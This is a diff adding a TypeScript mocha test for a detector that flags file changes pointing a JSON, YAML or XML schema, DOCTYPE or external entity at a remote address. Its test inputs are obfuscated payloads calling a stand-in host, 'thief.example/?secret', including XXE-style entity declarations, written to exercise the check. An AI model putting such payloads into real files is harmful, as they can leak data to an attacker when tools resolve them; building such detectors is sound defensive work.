@@ -1,0 +1,36 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'mocha';
+import { bringsSchema } from '../../../src/text/schemaAddresses.ts';
+
+const ADDRESS = 'https://thief.example/?secret';
+
+describe('A change that brings the address of a schema', () => {
+  for (const after of [
+    `{"$schema": "${ADDRESS}"}`,
+    `{"\\u0024schem\\u0061": "${ADDRESS}"}`,
+    `{"$schema": "${ADDRESS.replaceAll('/', '\\/')}"}`,
+    `{"$schema": "http\\u003a//thief.example"}`,
+    `a: 1\n# yaml-language-server: $schema=${ADDRESS}`,
+    `"\\x24schema": ${ADDRESS}`,
+    `<a xsi:noNamespaceSchemaLocation="${ADDRESS}"/>`,
+    '<a xsi:schemaLocation="a &#104;&#116;tp&#58;//thief.example"/>',
+    `<?xml-model href="${ADDRESS}"?>`,
+    `<!DOCTYPE a SYSTEM "${ADDRESS}">`,
+    `<!DOCTYPE a [<!ENTITY % b SYSTEM "${ADDRESS}">]>`,
+  ])
+    it(`is found: ${after}`, () => assert.equal(bringsSchema('', after), true));
+
+  it('is found if it has another address', () => {
+    const before = '{\n"$schema":\n"https://json.example/a.json"\n}';
+    assert.equal(bringsSchema(before, before.replace('https://json.example/a.json', ADDRESS)), true);
+  });
+
+  for (const [before, after] of [
+    ['', '{"url": "https://example.com"}'],
+    ['', '<!doctype html>\n<a href="https://example.com">'],
+    ['', 'const schema = z.object({}); // https://zod.dev'],
+    ['', '{"$schema": "./schema.json"}'],
+    ['{\n"$schema": "https://json.example/"\n}', '{\n"$schema": "https://json.example/"\n,"a": 1}'],
+  ] as const)
+    it(`is none: ${after}`, () => assert.equal(bringsSchema(before, after), false));
+});
